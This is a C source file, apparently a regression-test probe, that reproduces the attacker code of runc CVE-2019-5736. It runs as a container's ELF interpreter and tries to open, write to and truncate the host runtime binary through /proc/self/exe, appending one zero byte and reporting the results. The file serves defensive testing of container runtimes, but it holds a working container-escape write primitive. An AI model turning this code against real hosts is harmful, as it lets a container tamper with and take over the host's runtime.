/* The attacker's code of runc CVE-2019-5736, for EscapeIT. The test installs this file as the
 * container image's ELF interpreter (/lib64/ld-linux-x86-64.so.2) and makes the container run
 * /proc/self/exe: if a runtime's own binary is what /proc/self/exe names at that moment, the
 * kernel maps that binary and hands control to this code, which then tries to write through
 * /proc/self/exe to whatever file it is. It is freestanding (no libc: an interpreter runs before
 * any libc is set up) and reports on stdout one line per attempt:
 *   exe <link>                      what /proc/self/exe names
 *   open-wronly <errno>             open(/proc/self/exe, O_WRONLY) while it runs (0 = opened)
 *   later-open <errno>              the same through a kept fd, after the image is gone
 *   later-write <errno>             write(2) on that fd (0 = wrote)
 *   later-truncate <errno>          ftruncate(2) on that fd, one byte longer
 *   dev-ino <dev> <ino>             the file's identity, compared by the test with the disk's
 *   done
 * The second stage re-executes this file as a plain static program (its path in the image is
 * SELF) with the kept fd. A write that succeeds appends one zero byte: the regression shows and an
 * ELF binary still runs. */
#define SYS_read 0
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_fstat 5
#define SYS_pwrite64 18
#define SYS_nanosleep 35
#define SYS_execve 59
#define SYS_exit 60
#define SYS_wait4 61
#define SYS_ftruncate 77
#define SYS_readlink 89

/* where the test installs this file in the container's rootfs */
#define SELF "/lib64/ld-linux-x86-64.so.2"

#define O_RDONLY 0
#define O_WRONLY 1

typedef unsigned long u64;

static long sys(long n, long a, long b, long c, long d)
{
	long r;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return r;
}

static unsigned long len(const char *s)
{
	unsigned long n = 0;
	while (s[n])
		n++;
	return n;
}

static void out(const char *s) { sys(SYS_write, 1, (long)s, (long)len(s), 0); }

static void num(long v)
{
	char b[24];
	int i = 23;
	int neg = v < 0;
	unsigned long u = neg ? (unsigned long)-v : (unsigned long)v;
	b[i] = 0;
	do {
		b[--i] = (char)('0' + u % 10);
		u /= 10;
	} while (u);
	if (neg)
		b[--i] = '-';
	out(b + i);
}

static void line(const char *what, long err)
{
	out(what);
	out(" ");
	num(err < 0 ? -err : 0);
	out("\n");
}

struct kstat {
	u64 dev, ino, nlink;
	unsigned int mode, uid, gid, pad;
	u64 rdev;
	long size, blksize, blocks;
	u64 rest[9];
};

static long parse(const char *s)
{
	long v = 0;
	while (*s >= '0' && *s <= '9')
		v = v * 10 + (*s++ - '0');
	return v;
}

static int same(const char *a, const char *b)
{
	while (*a && *a == *b)
		a++, b++;
	return *a == *b;
}

/* Second stage, a plain static program now: the image that ran the first stage is gone, as
 * runc's was when the exploit reopened its fd for writing. */
static void later(long keep, long size)
{
	char path[40] = "/proc/self/fd/";
	int p = 14, nd = 0;
	char d[12];
	do {
		d[nd++] = (char)('0' + keep % 10);
		keep /= 10;
	} while (keep);
	while (nd)
		path[p++] = d[--nd];
	path[p] = 0;
	long fd = sys(SYS_open, (long)path, O_WRONLY, 0, 0);
	line("later-open", fd);
	if (fd >= 0) {
		/* one zero byte past the end: a regression is seen, a disk binary still runs */
		line("later-write", sys(SYS_pwrite64, fd, (long)"", 1, size));
		/* growing by one byte: a sealed copy refuses (F_SEAL_GROW), a disk binary still runs */
		line("later-truncate", sys(SYS_ftruncate, fd, size + 1, 0, 0));
	}
	out("done\n");
}

static void first(void)
{
	char link[256];
	long n = sys(SYS_readlink, (long)"/proc/self/exe", (long)link, sizeof link - 1, 0);
	link[n > 0 ? n : 0] = 0;
	out("exe ");
	out(link);
	out("\n");

	long w = sys(SYS_open, (long)"/proc/self/exe", O_WRONLY, 0, 0);
	line("open-wronly", w);
	if (w >= 0)
		sys(SYS_close, w, 0, 0, 0);

	/* runc's exploit kept an fd (not close-on-exec) and reopened it for writing later */
	long keep = sys(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0, 0);
	struct kstat st;
	if (keep < 0 || sys(SYS_fstat, keep, (long)&st, 0, 0) != 0) {
		line("keep", keep);
		out("done\n");
		return;
	}
	out("dev-ino ");
	num((long)st.dev);
	out(" ");
	num((long)st.ino);
	out("\n");
	char fdnum[24], sz[24];
	int i = 23;
	fdnum[i] = 0;
	long k = keep;
	do {
		fdnum[--i] = (char)('0' + k % 10);
		k /= 10;
	} while (k);
	char *fdarg = fdnum + i;
	i = 23;
	sz[i] = 0;
	k = st.size;
	do {
		sz[--i] = (char)('0' + k % 10);
		k /= 10;
	} while (k);
	char *argv[] = { "later", fdarg, sz + i, 0 };
	char *envp[] = { 0 };
	long e = sys(SYS_execve, (long)SELF, (long)argv, (long)envp, 0);
	line("exec-later", e);
}

__attribute__((noreturn, used)) void probe_main(long *sp)
{
	long argc = sp[0];
	char **argv = (char **)(sp + 1);
	if (argc == 3 && same(argv[0], "later"))
		later(parse(argv[1]), parse(argv[2]));
	else
		first();
	for (;;)
		sys(SYS_exit, 0, 0, 0, 0);
}

__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall probe_main\n");
